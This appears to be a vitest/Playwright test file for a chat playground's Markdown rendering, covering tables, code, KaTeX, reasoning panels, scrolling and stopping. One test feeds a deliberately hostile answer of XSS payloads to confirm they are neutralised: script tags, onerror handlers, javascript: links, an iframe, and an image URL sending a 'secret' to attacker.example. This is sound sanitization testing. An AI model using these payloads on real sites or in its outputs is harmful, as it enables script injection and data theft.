/** Answers as Markdown, and how they are followed while they stream. */
import { once } from 'node:events';
import type { ServerResponse } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { browser } from './shared-browser.ts';
import { chunk, StandIn, usage } from './stand-in.ts';
import { Visitor } from './visitor.ts';

const CODE = `def parse(text: str) -> list[int]:
    """Parses numbers."""
    return [int(one) for one in text.split(",")]  # may raise
`;

const ANSWER = `# Parsing numbers

Here is **how** it works, with \`int\` and a [link](https://example.com/docs):

1. Split the text
   - at each comma
   - and nowhere else
2. Parse each part
3. - [x] tested
   - [ ] documented

\`\`\`python
${CODE}\`\`\`

| Approach | Time | Notes |
|:---------|-----:|:-----:|
| \`split\` | 1.2 ms | simple |
| regex | 4.8 ms | *flexible* |

> The sum is $s = \\sum_{i=1}^{n} x_i$, as everybody knows.

The mean of the numbers is

\\[
\\bar{x} = \\frac{1}{n} \\sum_{i=1}^{n} x_i = \\sqrt{\\frac{a^2 + b^2}{2}}
\\]

It costs $5 or $10.

---

${'A longer paragraph that explains the approach in detail. '.repeat(12)}
`;

const HOSTILE = `<script>document.title = 'taken'</script>
<img src="https://attacker.example/pixel.png" onerror="document.title='taken'">

![pixel](https://attacker.example/pixel.png?q=secret) [run](javascript:document.title='taken')

<iframe src="https://attacker.example"></iframe> $\\href{javascript:alert(1)}{x}$

$\\htmlStyle{position: fixed}{x}$ and $\\frac{1$ and \`\`\`

The end.
`;

let service: StandIn;
/** The response to the next request, which the test writes. */
let response: Promise<ServerResponse>;
let arrived: (one: ServerResponse) => void;
beforeAll(async () => {
  service = await StandIn.start((one) => arrived(one));
});
afterAll(() => service[Symbol.asyncDispose]());
beforeEach(() => {
  ({ promise: response, resolve: arrived } = Promise.withResolvers<ServerResponse>());
});

let people = 0;

async function player(): Promise<Visitor> {
  people += 1;
  const email = `reader${people}@example.com`;
  const visitor = await Visitor.signedUp(browser, service.up, { name: 'Ada', email });
  await visitor.page.goto(`/${await visitor.organization()}/playground`);
  // The composer has the focus, so that a person can type at once.
  await visitor.page
    .getByLabel('Message', { exact: true })
    .and(visitor.page.locator(':focus'))
    .waitFor();
  return visitor;
}

async function ask(page: Page, text: string): Promise<ServerResponse> {
  await page.keyboard.type(text);
  await page.keyboard.press('Enter');
  return await response;
}

/** Writes a text in small pieces, as a model would, and ends the answer. */
function finish(to: ServerResponse, text: string): void {
  for (let at = 0; at < text.length; at += 7) {
    to.write(chunk({ content: text.slice(at, at + 7) }, null));
  }
  to.write(chunk({}, 'stop'));
  to.end(usage(100));
}

test('an answer is shown with headings, lists, tables, code and mathematics', async () => {
  await using ada = await player();
  const { page } = ada;
  finish(await ask(page, 'How do I parse numbers?'), ANSWER);
  const answer = page.getByRole('article');
  await answer.getByRole('list', { name: 'Facts' }).waitFor();
  await answer.getByRole('heading', { name: 'Parsing numbers' }).waitFor();
  await answer.locator('.hljs-keyword').first().waitFor();
  await answer.locator('.katex').nth(1).waitFor();
  expect(await answer.getByRole('row').count()).toBe(3);
  expect(await answer.getByRole('math').count()).toBe(2);
  await answer.getByText('It costs $5 or $10.').waitFor();
  expect(
    await answer.getByRole('listitem').filter({ hasText: '☑ tested' }).count(),
  ).toBeGreaterThan(0);
  const task = answer.getByRole('listitem').filter({ hasText: '☑ tested' }).last();
  expect(await task.evaluate((item) => getComputedStyle(item).listStyleType)).toBe('none');
  const link = answer.getByRole('link', { name: 'link' });
  expect(await link.getAttribute('target')).toBe('_blank');
  expect(await link.getAttribute('rel')).toContain('noopener');

  await answer.getByRole('button', { name: 'Copy the code' }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CODE);
  await answer.getByRole('button', { name: 'Copy the response' }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(ANSWER);
  await ada.look('playground-markdown');

  await answer.getByRole('button', { name: 'Show as plain text' }).click();
  await answer.getByText('# Parsing numbers').waitFor();
  await answer.getByRole('button', { name: 'Show as Markdown' }).click();
  await answer.getByRole('heading', { name: 'Parsing numbers' }).waitFor();

  await page.setViewportSize({ width: 390, height: 844 });
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  expect(width).toBe(390);
});

test('a hostile answer runs nothing, loads nothing and is shown to its end', async () => {
  await using ada = await player();
  const { page } = ada;
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  finish(await ask(page, 'Be evil'), HOSTILE);
  const answer = page.getByRole('article');
  await answer.getByText('The end.').waitFor();
  await answer
    .locator('.katex')
    .first()
    .waitFor({ timeout: 3_000 })
    .catch(() => {});
  expect(requests.filter((url) => url.includes('attacker'))).toEqual([]);
  expect(await page.title()).toContain('Playground');
  const links = await answer
    .getByRole('link')
    .evaluateAll((all) => all.map((one) => one.getAttribute('href')));
  // Addresses in a text are links, too, which nobody has to follow.
  expect(links.every((url) => url?.startsWith('https://attacker.example'))).toBe(true);
  expect(
    await answer.locator('[data-markdown]').locator('script, img, iframe, [style*=fixed]').count(),
  ).toBe(0);
});

test('reasoning is shown while the model reasons, with its time, and is then collapsed', async () => {
  await using ada = await player();
  const { page } = ada;
  const to = await ask(page, 'Think');
  to.write(chunk({ reasoning: 'First, **consider** the sea.' }, null));
  const thoughts = page.getByRole('article').getByRole('group');
  await thoughts.getByText('consider').waitFor();
  await thoughts.getByText(/Reasoning · [1-9]\d*\.\d s/).waitFor();
  expect(await thoughts.evaluate((one: HTMLDetailsElement) => one.open)).toBe(true);
  await ada.look('playground-thinking');
  finish(to, 'The sea is wide.');
  await page.getByRole('article').getByText('The sea is wide.').waitFor();
  await page.waitForFunction(
    () => !document.querySelector('article details')?.hasAttribute('open'),
  );
  await thoughts.getByText(/Reasoning · \d+\.\d s/).waitFor();
});

test('a reader who scrolls up stays there, jumps to the latest, and Esc stops the answer', async () => {
  await using ada = await player();
  const { page } = ada;
  const to = await ask(page, 'Go on');
  const paragraph = `${'Some words about the sea. '.repeat(30)}\n\n`;
  for (let index = 0; index < 20; index += 1) to.write(chunk({ content: paragraph }, null));
  const atEnd = () =>
    page.waitForFunction(
      () => window.innerHeight + window.scrollY >= document.documentElement.scrollHeight - 2,
    );
  await atEnd();
  await page.mouse.move(600, 300);
  await page.mouse.wheel(0, -900);
  const jump = page.getByRole('button', { name: 'Jump to latest' });
  await jump.waitFor();
  const before = await page.evaluate(() => window.scrollY);
  to.write(chunk({ content: `${paragraph} The mark.` }, null));
  await page.getByText('The mark.').waitFor();
  expect(await page.evaluate(() => window.scrollY)).toBe(before);
  await ada.look('playground-away');
  await page.evaluate((y) => window.scrollTo(0, y), before);
  await jump.click();
  await atEnd();
  await jump.waitFor({ state: 'detached' });

  const closed = once(to, 'close');
  await page.keyboard.press('Escape');
  await page.getByRole('list', { name: 'Facts' }).getByText('Stopped').waitFor();
  await closed;
});
